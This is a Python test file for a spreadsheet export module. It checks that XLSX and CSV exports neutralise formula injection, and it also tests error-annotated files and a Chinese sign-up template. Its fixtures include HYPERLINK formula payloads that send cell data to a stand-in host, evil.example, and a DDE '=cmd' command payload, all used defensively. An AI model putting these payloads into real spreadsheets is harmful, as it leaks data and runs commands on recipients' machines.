"""Files going back to institutions neutralise formula injection (SECURITY.md "Input and files": cells
starting with = + - @, tab, CR and their full-width forms), and the template keeps ID numbers as text."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from skilleval.core.spreadsheets import (
    ERRORS_HEADER,
    FORMULA_STARTS,
    ColumnSpec,
    is_formula_like,
    read_table,
    template_xlsx,
    write_annotated_xlsx,
    write_csv,
    write_xlsx,
)
from skilleval.core.spreadsheets.errors import cell_error
from tests.core.test_spreadsheets import COLUMNS, HEADER, MB, ZHANG_ID

PAYLOADS = [start + 'HYPERLINK("http://evil.example/?"&A1,"点击")' for start in FORMULA_STARTS]


def sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_plain_openpyxl_writes_a_string_starting_with_equals_as_a_live_formula():
    """The danger the export helpers exist for (BASELINES.md "Spreadsheets")."""
    workbook = Workbook(write_only=True)
    workbook.create_sheet().append(["=1+1"])
    out = io.BytesIO()
    workbook.save(out)
    assert "<f>1+1</f>" in sheet_xml(out.getvalue())


def test_every_dangerous_start_is_recognised_and_ordinary_text_is_not():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    assert all(is_formula_like(payload) for payload in PAYLOADS)
    assert not any(is_formula_like(text) for text in ["张三", ZHANG_ID, "13800138000", "", " =1", "a=b"])


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(start) for start in FORMULA_STARTS])
def test_xlsx_exports_write_formula_like_text_as_quote_prefixed_strings(payload):
    data = write_xlsx(["姓名", "备注"], [["张三", payload]])
    assert "<f>" not in sheet_xml(data)
    cell = load_workbook(io.BytesIO(data))["Sheet1"]["B2"]
    # An XML parser reads a CR as LF (XML 1.0 §2.11); the cell is text either way.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload.replace("\r", "\n"), "s", True)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(start) for start in FORMULA_STARTS])
def test_csv_exports_put_an_apostrophe_before_formula_like_text(payload):
    text = write_csv(["姓名", "备注"], [["张三", payload]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["张三", "'" + payload]


def test_headers_are_neutralised_too():
    assert "<f>" not in sheet_xml(write_xlsx(["=cmd|' /C calc'!A0"], []))
    assert write_csv(["=cmd"], []).decode("utf-8-sig").startswith("'=cmd")


def test_csv_exports_start_with_a_bom_so_excel_reads_utf8():
    assert write_csv(["姓名"], [["张三"]]).startswith(b"\xef\xbb\xbf\xe5\xa7\x93")


def test_control_characters_that_xml_forbids_are_dropped_not_fatal():
    cell = load_workbook(io.BytesIO(write_xlsx(["备注"], [["a\x01b"]])))["Sheet1"]["A2"]
    assert cell.value == "ab"


def test_an_export_reads_back_through_the_reader_unchanged():
    rows = [["张三", ZHANG_ID, "13800138000"], ["=李四", "+8613900139000", "-"]]
    table = read_table(
        write_xlsx(HEADER[:3], rows), filename="x.xlsx", columns=COLUMNS, max_rows=10, max_bytes=MB
    )
    assert [[r.values["name"], r.values["id_number"], r.values["mobile"]] for r in table] == rows


def test_the_annotated_file_adds_an_errors_column_and_highlights_the_bad_cells():
    header = ["姓名", "身份证号", "手机号"]
    rows = [["张三", ZHANG_ID, "13800138000"], ["李四", "4405241880", "=1+1"]]
    errors = {1: [cell_error("number_precision", row=3, column="身份证号"), "手机号：格式不正确"]}
    sheet = load_workbook(io.BytesIO(write_annotated_xlsx(header, rows, errors))).active
    assert [cell.value for cell in sheet[1]] == [*header, ERRORS_HEADER]
    assert sheet["D2"].value is None
    assert sheet["D3"].value.startswith("身份证号：该单元格是超过 15 位的数字")
    assert sheet["D3"].value.endswith("；手机号：格式不正确")
    red = "00FFC7CE"
    assert (sheet["B3"].fill.start_color.rgb, sheet["D3"].fill.start_color.rgb) == (red, red)
    assert sheet["A3"].fill.start_color.rgb != red and sheet["B2"].fill.start_color.rgb != red
    assert (sheet["C3"].value, sheet["C3"].data_type) == ("=1+1", "s")


def test_the_annotated_file_speaks_english_on_request():
    errors = {0: [cell_error("number_precision", row=2, column="ID number")]}
    sheet = load_workbook(io.BytesIO(write_annotated_xlsx(["ID number"], [["1"]], errors, lang="en"))).active
    assert sheet["B2"].value.startswith("ID number: This cell is a number of more than 15 digits")


def test_the_template_has_the_headers_an_example_row_and_text_format_for_ids_and_phones():
    workbook = load_workbook(io.BytesIO(template_xlsx(COLUMNS)))
    sheet = workbook["报名信息"]
    assert [cell.value for cell in sheet[1]] == ["姓名", "身份证号", "手机号", "出生日期", "工作年限"]
    assert [cell.value for cell in sheet[2]][:3] == [None, ZHANG_ID, "13800138000"]
    assert sheet.column_dimensions["B"].number_format == "@"
    assert sheet.column_dimensions["C"].number_format == "@"
    assert sheet.column_dimensions["A"].number_format == "General"
    assert sheet["B2"].number_format == "@"
    assert sheet["A1"].font.color.rgb == "00C00000"  # required headers in red
    assert sheet["D1"].font.color is None
    assert "说明 Instructions" in workbook.sheetnames


def test_the_template_is_accepted_by_the_reader_and_its_example_row_reads_as_data():
    # The example row is there to be deleted; a forgotten one comes back as an ordinary row for validation.
    table = read_table(
        template_xlsx(COLUMNS), filename="模板.xlsx", columns=COLUMNS, max_rows=10, max_bytes=MB
    )
    assert [(row.number, row.values["id_number"]) for row in table] == [(2, ZHANG_ID)]


def test_a_formula_like_example_in_the_template_is_neutralised():
    columns = [ColumnSpec("note", ("备注",), example="=1+1")]
    assert "<f>" not in sheet_xml(template_xlsx(columns))
